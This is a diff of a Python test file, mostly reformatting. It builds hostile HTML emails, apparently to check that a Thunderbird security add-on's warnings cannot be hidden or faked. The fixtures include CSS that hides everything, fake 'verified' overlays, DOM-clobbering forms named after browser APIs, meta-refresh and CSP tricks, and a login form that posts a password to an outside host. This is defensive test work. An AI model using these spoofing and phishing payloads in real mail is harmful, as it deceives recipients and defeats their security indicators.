@@ -48,10 +48,27 @@ TEXT = (
     "writing-mode: vertical-rl !important; text-transform: uppercase !important; user-select: none !important; cursor: none !important; "
     "word-spacing: 9em !important; font-variant: small-caps !important; text-shadow: 0 0 9px red !important; visibility: hidden !important"
 )
-NAMES = (
-    "createElement documentElement querySelector addEventListener body head URL title prepend append firstChild parentNode "
-    "attachShadow style removeAttribute hasAttribute setProperty closest matches"
-).split()
+NAMES = [
+    "createElement",
+    "documentElement",
+    "querySelector",
+    "addEventListener",
+    "body",
+    "head",
+    "URL",
+    "title",
+    "prepend",
+    "append",
+    "firstChild",
+    "parentNode",
+    "attachShadow",
+    "style",
+    "removeAttribute",
+    "hasAttribute",
+    "setProperty",
+    "closest",
+    "matches",
+]
 
 STILL: dict[str, str] = {
     "every-element": styled(f"* {{ {GONE} }}"),
@@ -77,15 +94,25 @@ STILL: dict[str, str] = {
         f"@starting-style {{ * {{ opacity: 0; display: none }} }}"
     ),
     "cover": styled("", f'<div style="{COVER}">Sekisho: verified</div>'),
-    "cover-generated": styled(f"html::before, body::after, html > div:first-child::before {{ content: 'verified'; {COVER} }}"),
-    "cover-picture": styled("", f'<svg style="{COVER}"><rect width="100%" height="100%" fill="#fff"/></svg><dialog open style="{COVER}">ok</dialog>'),
-    "names": styled("", "".join(f'<form name="{name}" id="{name}"><input name="{name}"></form><img name="{name}">' for name in NAMES)),
+    "cover-generated": styled(
+        f"html::before, body::after, html > div:first-child::before {{ content: 'verified'; {COVER} }}"
+    ),
+    "cover-picture": styled(
+        "",
+        f'<svg style="{COVER}"><rect width="100%" height="100%" fill="#fff"/></svg><dialog open style="{COVER}">ok</dialog>',
+    ),
+    "names": styled(
+        "",
+        "".join(f'<form name="{name}" id="{name}"><input name="{name}"></form><img name="{name}">' for name in NAMES),
+    ),
     "policy": f"""<html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'none'; script-src 'none'; sandbox">
 <meta name="color-scheme" content="dark"><meta name="viewport" content="width=9000"><meta http-equiv="refresh" content="0; url=about:blank">
 <base href="https://base.example/" target="_top"></head><body>{LINK}</body></html>""",
     "frames": f'<html><frameset rows="*"><frame src="about:blank"></frameset><noframes>{LINK}</noframes></html>',
     "unclosed": f"<html><body>{LINK}<template><textarea><title><style>* {{ display: none !important }}</style><plaintext>",
-    "flow": styled("html { display: flex !important; position: fixed !important; top: 300px !important; flex-direction: column-reverse; perspective: 1px }"),
+    "flow": styled(
+        "html { display: flex !important; position: fixed !important; top: 300px !important; flex-direction: column-reverse; perspective: 1px }"
+    ),
     "twice": f"{styled('')}<html hidden inert style='display: none !important'><body style='display: none !important' inert>",
 }
 HOSTILE = [mail(name, html) for name, html in STILL.items()]
@@ -102,5 +129,11 @@ OPENER = mail(
 )
 
 # The mail's own form, of which Thunderbird itself warns with a bar.
-FORM = mail("form", styled("", '<form action="https://form.w-support.jp/in" method="post"><input name="password"><button>Log in</button></form>'))
+FORM = mail(
+    "form",
+    styled(
+        "",
+        '<form action="https://form.w-support.jp/in" method="post"><input name="password"><button>Log in</button></form>',
+    ),
+)
 MAILS = [PLAIN, *HOSTILE, OPENER, FORM]
